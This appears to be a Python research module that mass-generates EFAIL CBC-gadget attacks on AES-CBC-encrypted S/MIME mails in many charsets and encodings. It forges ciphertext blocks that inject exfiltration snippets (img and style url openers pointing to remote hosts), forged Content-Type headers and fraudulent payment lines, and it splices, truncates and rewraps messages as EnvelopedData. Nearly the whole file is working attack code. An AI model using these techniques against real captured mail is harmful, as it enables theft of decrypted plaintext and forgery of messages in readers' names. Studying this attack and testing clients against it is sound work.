"""EFAIL against CBC (Poddebniak et al., 2018, §4), by the thousand: whoever has caught a mail knows some of its text, and no key.

What they can do is made of blocks: a chosen one costs a random one in front of it; blocks that are taken away or change places
cost one; in front of everything a chosen one costs nothing. The key is a fixed one, so that the tries are the same each time."""
import quopri
import random

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

import attacks
import messages
from ber import closed, der, elements, opened

BLOCK = 16
KEY = bytes(range(7, 39))
ENCODINGS = {"7bit": "7bit", "8bit": "8bit", "qp": "quoted-printable", "base64": "base64"}
IN_LATIN = ("Sehr geehrte Frau Müller, über die Größe der Bürgschaft für Ihr Gebäude können wir erst nächste Woche entscheiden. "
            "Das geheime Kennwort heißt Zwölf-Äpfel. Mit freundlichen Grüßen, Jürgen Weiß, Geschäftsführer. Tél. +49 30 1234567. ")
IN_CYRILLIC = ("Уважаемая госпожа Иванова, по поводу размера гарантии на ваше здание мы сможем решить только на следующей неделе. "
               "Секретный пароль: двенадцать яблок. С уважением, Юрий Белов, директор. Тел. +7 495 1234567. ")
TEXTS = {"utf-8": IN_LATIN, "iso-8859-1": IN_LATIN, "iso-8859-15": IN_LATIN, "windows-1252": IN_LATIN.replace("Kennwort", "„Kennwort“"),
         "koi8-r": IN_CYRILLIC, "windows-1251": IN_CYRILLIC, "us-ascii": IN_LATIN.encode("ascii", "ignore").decode()}


def encoded(text, encoding):
    if encoding == "qp":
        return quopri.encodestring(text).replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return messages.base64_lines(text) if encoding == "base64" else text


def page(charset, encoding, kind="html", times=3):
    text = TEXTS[charset] * times
    lines = "\r\n".join(text[at:at + 70] for at in range(0, len(text), 70))
    if kind == "html":
        lines = f"<html><body><p>{lines}</p></body></html>\r\n"
    return (f"Content-Type: text/{kind}; charset={charset}\r\nContent-Transfer-Encoding: {ENCODINGS[encoding]}\r\n\r\n".encode()
            + encoded(lines.encode(charset), encoding))


def alternative(charset, encoding):
    boundary = "----=_NextPart_000_01DB_3F51A3C5.0815"
    parts = (page(charset, encoding, "plain"), page(charset, encoding))
    return (f'Content-Type: multipart/alternative;\r\n\tboundary="{boundary}"\r\n\r\n'.encode()
            + messages.multipart(boundary, *(part.rstrip(b"\r\n") for part in parts)))


CELLS = {f"{charset} {encoding} {make.__name__}": make(charset, encoding)
         for charset in TEXTS for encoding in ENCODINGS for make in (page, alternative)
         if (encoding == "7bit") == (charset == "us-ascii") or encoding in ("qp", "base64")}


def xor(one, other):
    return bytes(a ^ b for a, b in zip(one, other))


class Sealed:
    def __init__(self, text, key=KEY, iv=bytes(16)):
        self.text, self.iv = text, iv
        pad = BLOCK - len(text) % BLOCK
        self.padded = text + bytes([pad]) * pad
        cipher = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
        self.blocks = attacks.blocks_of(cipher.update(self.padded) + cipher.finalize())
        self.plain = attacks.blocks_of(self.padded)
        self.key = key

    def before(self, at):
        return self.blocks[at - 1] if at > 0 else self.iv

    def gadget(self, wanted, known):
        """Two blocks of ciphertext: a random one, and the wanted one behind it."""
        return [xor(xor(self.before(known), self.plain[known]), wanted), self.blocks[known]]


def wanted_text(rng):
    """What would send text away, hide it, or be taken for the author's, in sixteen bytes."""
    made = rng.choice(("<img src=//{}/", '" src=//e{}/?q', "'><a href=//{}/", "<p>Pay now {}.", "\r\n\r\n--{}\r\nX: ", "{}\r\n\r\nPlease pay",
                       "<style>{}{{url(", "\nContent-Type:{}", "=3Cimg src=3D{}", "<!--{}-->", "<b>Ja {} </b>", "{} bitte zahlen."))
    made = made.format(rng.randrange(10000))[:BLOCK].encode()
    return made + bytes(rng.choice(b" abcdefghijkl/.=") for _ in range(BLOCK - len(made)))


def tail(rng):
    return rng.choice((b"</p>", b"\r\n--", b'">\r\n', b"--\r\n", b"")).ljust(rng.randrange(5, 15), b" ")


def padded(text):
    return text + bytes([BLOCK - len(text)]) * (BLOCK - len(text))


FIRST = (b"Content-Type:\n\n ", b"Content-Type: te", b"Content-Type: a/", b"A:\nContent-Type:", b"Content-Type:a/b", b"Content-Type: \n\n",
         b"Content-type:x;\n", b"MIME-Version: 1.", b"\nContent-Type: m", b"Content-Type:*/*", b"content-type:\ta/")


def in_place(sealed, rng):
    known = rng.randrange(1, len(sealed.blocks) - 1)
    blocks = list(sealed.blocks)
    blocks[known - 1] = sealed.gadget(wanted_text(rng), known)[0]
    return sealed.iv, blocks


def inserted(sealed, rng):
    at, known = rng.randrange(1, len(sealed.blocks)), rng.randrange(0, len(sealed.blocks) - 1)
    made = sealed.gadget(wanted_text(rng), known)
    made += sealed.gadget(wanted_text(rng), rng.randrange(0, len(sealed.blocks) - 1)) if rng.random() < 0.2 else []
    return sealed.iv, [*sealed.blocks[:at], *made, *sealed.blocks[at:]]


def replaced(sealed, rng):
    at, known = rng.randrange(1, len(sealed.blocks) - 3), rng.randrange(0, len(sealed.blocks) - 1)
    return sealed.iv, [*sealed.blocks[:at], *sealed.gadget(wanted_text(rng), known), *sealed.blocks[at + rng.randrange(1, 3):]]


def cut_in_front(sealed, rng):
    """The text begins later, with any first block, at no price."""
    known = rng.randrange(1, len(sealed.blocks))
    first = rng.choice((*FIRST, sealed.plain[known], bytes(rng.choice(b"Content-Type: /\r\nabe") for _ in range(BLOCK)),
                        *(f"Content-Type: {kind}".encode()[-BLOCK:] for kind in ("text", "te", "multipa", "m", "applicatio", "t", ""))))
    return xor(xor(sealed.before(known), sealed.plain[known]), first.ljust(BLOCK)[:BLOCK]), sealed.blocks[known:]


def cut_to_a_part(sealed, rng):
    """As before, where a part has its own Content-Type, across whose name or value a block ends: the first block completes it."""
    found = [at for at in range(BLOCK, len(sealed.text)) if sealed.text.startswith(b"Content-Type:", at)]
    if not found:
        return cut_in_front(sealed, rng)
    start = rng.choice(found)
    known = start // BLOCK
    piece = sealed.text[start:(known + 1) * BLOCK]
    room = BLOCK - len(piece)
    first = (b"X:" + b"y" * (room - 3) + b"\n" if room > 2 else b"\n" * room) + piece
    return xor(xor(sealed.before(known), sealed.plain[known]), first), sealed.blocks[known:]


def cut_behind(sealed, rng):
    at = rng.randrange(2, len(sealed.blocks))
    known = rng.randrange(0, len(sealed.blocks) - 1)
    end = sealed.gadget(padded(tail(rng)), known) if rng.random() < 0.7 else sealed.blocks[-2:]
    return sealed.iv, [*sealed.blocks[:at], *end]


def spliced(sealed, rng):
    """Known text in another place: the random block can be known in advance, and chosen among many."""
    best = None
    for _ in range(60):
        one, other = rng.randrange(1, len(sealed.blocks)), rng.randrange(1, len(sealed.blocks) - 1)
        made = xor(xor(sealed.plain[other], sealed.before(other)), sealed.blocks[one - 1])
        score = sum(0x20 <= byte < 0x7f or byte in b"\r\n" for byte in made)
        if one != other and (best is None or score > best[0]):
            best = score, one, other
    return sealed.iv, [*sealed.blocks[:best[1]], *sealed.blocks[best[2]:]]


def begins_anew(sealed, rng):
    """A first block of one's own, and a gadget in what follows."""
    iv, blocks = cut_to_a_part(sealed, rng)
    at = rng.randrange(1, max(2, len(blocks)))
    return iv, [*blocks[:at], *sealed.gadget(wanted_text(rng), rng.randrange(0, len(sealed.blocks) - 1)), *blocks[at:]]


HOW = (in_place, inserted, replaced, cut_in_front, cut_to_a_part, cut_behind, spliced, begins_anew)


def decrypted(iv, blocks, key=KEY):
    """The text, or None if its padding is wrong."""
    cipher = Cipher(algorithms.AES(key), modes.CBC(iv)).decryptor()
    text = cipher.update(b"".join(blocks)) + cipher.finalize()
    pad = text[-1]
    return text[:-pad] if 1 <= pad <= BLOCK and text.endswith(bytes([pad]) * pad) else None


def structure(template, wrapped, iv, blocks):
    """`template`, EnvelopedData for one reader, with another content key, as it is encrypted for the reader, and content."""
    kind, parts = opened(attacks.change_ciphertext(template, lambda *_: (iv, b"".join(blocks))))
    (tag, reader), = elements(parts[1][1])
    *names, (key_tag, _) = elements(reader)
    parts[1] = parts[1][0], der(tag, *(der(*each) for each in names), der(key_tag, wrapped))
    return closed(kind, parts)


def strangeness(text, genuine):
    """How far the text is from what people write: the most text-like tries come first."""
    return sum(byte < 0x20 and byte not in b"\t\r\n" or byte >= 0x7f and byte not in genuine for byte in text)


def tries(cell, count, seed=15):
    """(how, iv, blocks, text) of changes to a mail; none of them leaves the text as it was."""
    sealed, rng = Sealed(CELLS[cell]), random.Random(f"{cell} {seed}")
    made = 0
    while made < count:
        how = HOW[made % len(HOW)]
        iv, blocks = how(sealed, rng)
        text = decrypted(iv, blocks)
        if text == sealed.text:
            continue
        made += 1
        yield how.__name__, iv, blocks, text
